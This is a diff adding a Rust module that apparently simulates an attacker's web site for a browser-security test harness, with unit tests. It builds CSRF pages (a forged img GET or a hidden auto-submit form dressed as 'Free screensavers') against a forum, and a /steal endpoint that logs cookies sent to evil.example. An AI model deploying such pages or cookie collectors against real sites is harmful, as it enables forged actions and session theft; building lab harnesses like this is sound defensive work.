@@ -1,0 +1,152 @@
+//! The attacker-controlled web site.
+//!
+//! It serves two kinds of content: cross-site-request-forgery pages aimed at a victim
+//! application (an auto-loading `img` or a form ready to be auto-submitted), and a
+//! `/steal` endpoint that records data exfiltrated by XSS payloads (stolen cookies).
+
+use std::cell::RefCell;
+use std::fmt;
+use std::rc::Rc;
+
+use escudo_net::{Request, Response, Server, StatusCode};
+
+/// How a CSRF page delivers its forged request.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum CsrfVector {
+    /// An `<img src="…">` pointing at a state-changing URL of the victim (GET).
+    ImageGet {
+        /// Absolute URL of the forged request.
+        target: String,
+    },
+    /// A form whose action is the victim URL; the harness auto-submits it
+    /// (`form id="csrf-form"`), standing in for the usual auto-submit script.
+    FormPost {
+        /// Absolute URL of the forged request.
+        target: String,
+        /// Form fields.
+        fields: Vec<(String, String)>,
+    },
+}
+
+/// The attacker site.
+pub struct AttackerSite {
+    /// The CSRF page body served at `/csrf`.
+    vector: Option<CsrfVector>,
+    stolen: Rc<RefCell<Vec<String>>>,
+}
+
+impl fmt::Debug for AttackerSite {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.debug_struct("AttackerSite")
+            .field("vector", &self.vector)
+            .field("stolen", &self.stolen.borrow().len())
+            .finish()
+    }
+}
+
+impl AttackerSite {
+    /// Creates an attacker site with no CSRF page (exfiltration endpoint only).
+    #[must_use]
+    pub fn new() -> Self {
+        AttackerSite {
+            vector: None,
+            stolen: Rc::new(RefCell::new(Vec::new())),
+        }
+    }
+
+    /// Creates an attacker site whose `/csrf` page mounts the given vector.
+    #[must_use]
+    pub fn with_csrf(vector: CsrfVector) -> Self {
+        AttackerSite {
+            vector: Some(vector),
+            stolen: Rc::new(RefCell::new(Vec::new())),
+        }
+    }
+
+    /// A handle to the exfiltration log (query strings received at `/steal`).
+    #[must_use]
+    pub fn stolen(&self) -> Rc<RefCell<Vec<String>>> {
+        Rc::clone(&self.stolen)
+    }
+
+    fn csrf_page(&self) -> String {
+        let payload = match &self.vector {
+            None => String::new(),
+            Some(CsrfVector::ImageGet { target }) => {
+                format!("<img id=\"csrf-img\" src=\"{target}\">")
+            }
+            Some(CsrfVector::FormPost { target, fields }) => {
+                let inputs: String = fields
+                    .iter()
+                    .map(|(name, value)| {
+                        format!("<input type=\"hidden\" name=\"{name}\" value=\"{value}\">")
+                    })
+                    .collect();
+                format!(
+                    "<form id=\"csrf-form\" method=\"post\" action=\"{target}\">{inputs}\
+                     <input type=\"submit\" value=\"win a prize\"></form>"
+                )
+            }
+        };
+        format!(
+            "<!DOCTYPE html><html><head><title>Totally harmless page</title></head>\
+             <body><h1>Free screensavers</h1>{payload}</body></html>"
+        )
+    }
+}
+
+impl Default for AttackerSite {
+    fn default() -> Self {
+        AttackerSite::new()
+    }
+}
+
+impl Server for AttackerSite {
+    fn handle(&mut self, request: &Request) -> Response {
+        match request.url.path() {
+            "/" | "/csrf" => Response::ok_html(self.csrf_page()),
+            "/steal" => {
+                self.stolen.borrow_mut().push(request.url.query().to_string());
+                Response::ok_text("thanks")
+            }
+            _ => Response::error(StatusCode::NOT_FOUND, "not found"),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn csrf_pages_embed_the_requested_vector() {
+        let mut img_site = AttackerSite::with_csrf(CsrfVector::ImageGet {
+            target: "http://forum.example/posting.php?mode=post&subject=spam".to_string(),
+        });
+        let page = img_site.handle(&Request::get("http://evil.example/csrf").unwrap());
+        assert!(page.body.contains("csrf-img"));
+        assert!(page.body.contains("posting.php"));
+
+        let mut form_site = AttackerSite::with_csrf(CsrfVector::FormPost {
+            target: "http://forum.example/posting.php".to_string(),
+            fields: vec![("mode".into(), "post".into()), ("subject".into(), "spam".into())],
+        });
+        let page = form_site.handle(&Request::get("http://evil.example/csrf").unwrap());
+        assert!(page.body.contains("id=\"csrf-form\""));
+        assert!(page.body.contains("name=\"subject\""));
+    }
+
+    #[test]
+    fn the_steal_endpoint_records_exfiltrated_data() {
+        let mut site = AttackerSite::new();
+        let stolen = site.stolen();
+        site.handle(&Request::get("http://evil.example/steal?c=phpbb2mysql_sid%3Dabc").unwrap());
+        site.handle(&Request::get("http://evil.example/steal?c=second").unwrap());
+        assert_eq!(stolen.borrow().len(), 2);
+        assert!(stolen.borrow()[0].contains("phpbb2mysql_sid"));
+        assert_eq!(
+            site.handle(&Request::get("http://evil.example/other").unwrap()).status,
+            StatusCode::NOT_FOUND
+        );
+    }
+}
